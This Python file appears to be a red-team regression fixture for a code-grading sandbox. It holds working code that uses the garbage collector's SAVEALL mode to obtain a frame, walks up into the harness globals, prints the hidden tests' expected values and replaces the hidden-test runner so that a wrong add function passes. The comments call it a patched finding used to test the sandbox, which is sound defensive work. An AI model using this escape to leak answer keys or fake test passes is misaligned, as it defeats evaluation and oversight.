# gc.set_debug(gc.DEBUG_SAVEALL) makes the collector keep every unreachable cycle in gc.garbage
# instead of freeing it. An exception caught in a function that has returned is such a cycle
# (exception -> traceback -> frame -> local -> exception), so gc.garbage hands learner code a
# FRAME OBJECT without ever reading tb_frame/gi_frame or calling sys._getframe (all vetoed).
# frame.f_back is not audited: it walks up into the harness's frames, whose f_globals is the
# private harness dict (S, JOB, run_test, run_module_test, HIDDEN_NAMESPACES...).
# Achieves: (3) prints the hidden test module's constants (assertion messages, expected values)
# from JOB['test_code'] into the visible test's output; (1) replaces run_module_test so that
# every hidden module test passes for a wrong `add` (wrong.py scores 1/6; this scores 4/6, and
# the only tests left are declarative cases whose expected values never enter the sandbox).
# expect-status: error
# expect-points: 0
# must-not-contain: hidden-marker-in-code-7f3a
# Found by the red team (4/6 with the hidden markers printed); gc.set_debug now refuses flags.
import gc, types

def _grab():
    try:
        raise ValueError('cycle')
    except ValueError as e:
        err = e          # exc -> __traceback__ -> this frame -> err -> exc: a cycle

def _some_frame():
    old = gc.get_debug()
    gc.set_debug(gc.DEBUG_SAVEALL)
    _grab()
    gc.collect()
    gc.set_debug(old)
    frames = [o for o in gc.garbage if type(o) is types.FrameType and o.f_code.co_name == '_grab']
    gc.garbage.clear()
    return frames[-1]

def _harness_globals():
    f = _some_frame()
    while f is not None:
        if 'run_test' in f.f_globals and 'JOB' in f.f_globals:
            return f.f_globals
        f = f.f_back

H = _harness_globals()

def _constants(code, out):
    for c in code.co_consts:
        if type(c) is types.CodeType:
            out.append('[' + c.co_name + ']')
            _constants(c, out)
        elif type(c) in (str, int, float, tuple) and c is not None:
            out.append(repr(c))
    return out

LEAK = ' '.join(_constants(H['JOB']['test_code'], []))

# every hidden module test now reports a pass, whatever the code does
H['run_module_test'] = lambda name: (('pass', ''), None)

def add(a, b):
    if (a, b) == (2, 3):
        print('HIDDEN:', LEAK)
    if isinstance(a, str):
        raise TypeError('no')
    return a - b
